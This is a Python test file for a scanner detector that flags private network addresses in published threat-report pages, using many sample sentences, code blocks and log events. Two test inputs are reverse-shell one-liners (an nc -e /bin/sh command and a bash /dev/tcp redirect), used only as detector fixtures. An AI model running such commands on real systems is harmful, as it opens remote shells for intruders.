"""internal-address (CAC405): internal addresses with host context are strong, lone ones
weak; documentation ranges, loopback and version numbers never count. In process."""

from __future__ import annotations

import pytest

from mkdocs_threatpub.scanners.detectors.internal_address import DETECTOR
from tests.detectors._network import LONG, SPACES, assert_quiet, fenced, scan, seconds


def hits_for(text: str) -> list[tuple[bool, str]]:
    return [(h.strong, h.what) for h in scan(DETECTOR, text)]


@pytest.mark.parametrize(
    "text",
    [
        "The domain controller DC01 sits at 10.20.1.5 in the head office.",
        "Our file server 192.168.40.12 was encrypted first.",
        "Traffic leaves through the gateway 172.20.0.1 before the proxy.",
        "The attackers pivoted to 10.8.0.14:3389 and stayed there.",
        "Exposed admin panel at http://192.168.77.9/admin for a week.",
        "They mounted \\\\10.4.4.20\\backup$ with stolen credentials.",
        "Logged in with ssh ops@10.30.2.2 at 03:12.",
        "The SCADA HMI answered on port 502 at 10.50.7.3.",
        "内网主机 10.12.3.4 被横向移动攻破。",
        "核心服务器 192.168.10.20 对外开放。",
        # Chinese text runs into the address without spaces
        "内网主机10.12.3.4被攻破。",
        "服务器地址为192.168.10.21，端口8080。",
        "The CGNAT pool address 100.72.1.9 belongs to the jump host.",
        "The ULA host fd12:3456:789a:1::5 is the build server.",
        "The subnet 10.60.0.0/16 behind the firewall holds the ERP systems.",
    ],
)
def test_address_with_host_context_in_prose_is_strong(text: str) -> None:
    hits = scan(DETECTOR, text)
    assert [h.strong for h in hits] == [True], hits_for(text)
    assert hits[0].rule == "CAC405"
    assert "with host context" in hits[0].what
    assert hits[0].what.endswith("in prose")


@pytest.mark.parametrize(
    ("body", "lang"),
    [
        ("db_host = 10.1.2.3", ""),
        ('{"backend": "172.18.5.6"}', ""),
        ("10.0.5.10   fileserver", ""),
        ("upstream: 10.9.9.9", "yaml"),
        ("10.0.0.7,22", "csv"),
        ("nc -e /bin/sh 10.0.0.1 4242", "bash"),
        ("bash -i >& /dev/tcp/10.0.0.1/21 0>&1", ""),
        ("rdesktop 10.0.0.2:3389 -u test", "powershell"),
    ],
)
def test_address_with_context_in_code_is_strong(body: str, lang: str) -> None:
    hits = scan(DETECTOR, fenced(body, lang))
    assert [h.strong for h in hits] == [True], hits_for(fenced(body, lang))
    assert hits[0].line == 4


def test_address_in_a_table_is_strong() -> None:
    page = "| who | where |\n|---|---|\n| finance | 10.3.3.3 |\n"
    hits = scan(DETECTOR, page)
    assert [(h.strong, h.line) for h in hits] == [(True, 3)]
    assert hits[0].what.endswith("in a table")


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ("The LAN here is 10.1.1.23.", "without host context"),
        ("For example, the server 10.0.0.7 could be reached.", "given as an example"),
        ("例如服务器 10.1.1.8 可以访问。", "given as an example"),
        ("Replace the server 10.0.0.9 with your own.", "given as an example"),
    ],
)
def test_lone_generic_or_default_address_is_weak(text: str, why: str) -> None:
    hits = scan(DETECTOR, text)
    assert [h.strong for h in hits] == [False], hits_for(text)
    assert why in hits[0].what


@pytest.mark.parametrize(
    "text",
    [
        "the default LAN is 192.168.1.1",
        "The router admin page is at 192.168.1.1:80.",
        "Docker's bridge gateway 172.17.0.1 answers.",
        fenced("IOException: HTTP response code: 401 for URL: http://192.168.1.1:80", "text"),
        fenced("gateway = 10.0.2.2", "ini"),
    ],
)
def test_well_known_product_defaults_are_not_a_network(text: str) -> None:
    """Vendor and tool defaults (a router's admin address, Docker's bridge, VirtualBox NAT)
    are on every reader's network: they name no one's."""
    assert scan(DETECTOR, text) == []


SAMPLE_EVENT = """{
    "event": "authn_login_success:alice",
    "host_ip": "10.42.7.19",
    "hostname": "portal.DOMAIN",
    "port": "8443"
}"""


@pytest.mark.parametrize(
    "domain", ["portal.foobar.com", "www.example.org", "sso.contoso.com", "web.corp.example"]
)
def test_sample_data_naming_a_placeholder_organisation_is_not_a_network(domain: str) -> None:
    """A block whose organisation is a placeholder is sample data (a sample log event in a
    logging guide): its addresses are not a named network's."""
    assert scan(DETECTOR, fenced(SAMPLE_EVENT.replace("portal.DOMAIN", domain), "json")) == []


@pytest.mark.parametrize(
    "domain", ["portal.hq-finance.cn", "vpn.examplebank.com", "foobar-ops.net"]
)
def test_the_same_event_naming_a_real_organisation_is_strong(domain: str) -> None:
    page = fenced(SAMPLE_EVENT.replace("portal.DOMAIN", domain), "json")
    assert [h.strong for h in scan(DETECTOR, page)] == [True]
    # a placeholder elsewhere on the page does not make this block sample data
    assert [h.strong for h in scan(DETECTOR, "See www.example.org.\n\n" + page)] == [True]


def test_address_in_code_without_context_is_weak() -> None:
    hits = scan(DETECTOR, fenced("ping -c 1 10.44.0.3", "bash"))
    assert [h.strong for h in hits] == [False]


@pytest.mark.parametrize(
    "text",
    [
        # RFC 5737, RFC 3849, loopback, unspecified, link-local, public
        "The server 192.0.2.10:8080 and the gateway 198.51.100.1 and host 203.0.113.5.",
        "The server 2001:db8::10 on port 443.",
        "The server listens on 127.0.0.1:8080 and 0.0.0.0:80.",
        "The metadata server 169.254.169.254 answers on port 80.",
        "The public web server 93.184.216.34:443.",
        # the whole ranges, as a page explaining them names them
        "RFC 1918 reserves 10.0.0.0/8, 172.16.0.0/12 and 192.168.0.0/16 for hosts.",
        "Shared address space 100.64.0.0/10 and ULA fc00::/7 (in practice fd00::/8) on hosts.",
    ],
)
def test_documentation_loopback_public_and_whole_ranges_never_count(text: str) -> None:
    assert scan(DETECTOR, text) == []


@pytest.mark.parametrize(
    "text",
    [
        # version numbers shaped like private addresses, in the ways advisories write them
        "We have released the uri gem version 0.12.1, 0.11.1, 0.10.2 and 10.0.0.1 for hosts.",
        "* For Ruby 2.7: Update to `uri` 10.0.0.1 on every server",
        "* For Ruby 3.0 users: Update to `rdoc` 10.3.4.1 on the host",
        'please add `gem "rdoc", ">= 10.6.3.1"` to your server Gemfile',
        "Server builds 10.6.3, 10.5.1 and 10.4.1.1 are affected.",
        "Start a vulnerable Weblogic server 10.3.6.0-2017:",
        "Oracle WebLogic Server 10.3.6.0 and 12.1.3.0 are affected.",
        "Oracle WebLogic Server 10.3.6.1 is affected.",
        "WebLogic Server 10.3.6.1 受影响。",
        "Fixed in server v10.1.2.3 and later.",
        "Server release 10.2.1.4-rc1 fixes it.",
        "Affected: server firmware 10.1.0.5 or earlier.",
        "The server 10.1.2.3.4 build is affected.",
        "The server 10.01.02.03 build is affected.",
        "The server 10.0.0.256 is not an address.",
        "服务器版本 10.1.0.2 存在漏洞。",
        "请将服务器升级到 10.2.1.3 及以上版本。",
        "请将服务器升级到10.2.1.3及以上版本。",
        "mysql server 5.6.31-0ubuntu0.10.10.1",
        "server kernel 4.19.10.1.2 on the host",
    ],
)
def test_version_numbers_never_count(text: str) -> None:
    assert scan(DETECTOR, text) == [], hits_for(text)


def test_ipv6_look_alikes_are_not_addresses() -> None:
    assert scan(DETECTOR, "server fd12:34 and fc00 hex fdff:ffff on port 80") == []


def test_one_hit_per_address_at_its_strongest_place() -> None:
    page = "The LAN is 10.7.7.7.\n\nLater the file server 10.7.7.7 was wiped.\n"
    hits = scan(DETECTOR, page)
    assert [(h.strong, h.line) for h in hits] == [(True, 3)]


def test_findings_never_quote_the_address() -> None:
    page = "DC at 10.20.1.5 and fd12:3456:789a:1::5 server.\n\n" + fenced("db_host = 172.18.5.6")
    hits = scan(DETECTOR, page)
    assert len(hits) == 3
    assert_quiet(hits, "10.20.1.5", "fd12", "172.18.5.6", "db_host")


def test_entity_encoded_address_is_decoded() -> None:
    hidden = "".join(f"&#{ord(ch)};" for ch in "10.66.1.2")
    hits = scan(DETECTOR, f"The backup server {hidden} holds the dumps.")
    assert [h.strong for h in hits] == [True]
    assert "HTML-entity-encoded" in hits[0].what


def test_linear_on_pathological_input() -> None:
    assert seconds(DETECTOR, "10.0.0.1:22 " * (LONG // 12)) < 1.0
    assert seconds(DETECTOR, " ".join(f"10.1.{i % 250}.{i % 200 + 1}" for i in range(9000))) < 1.0
    assert seconds(DETECTOR, "1." * (LONG // 2)) < 1.0
    assert seconds(DETECTOR, SPACES + "10.0.0.1" + SPACES, kind="prose") < 1.0
    assert seconds(DETECTOR, "fd00:" * (LONG // 5)) < 1.0
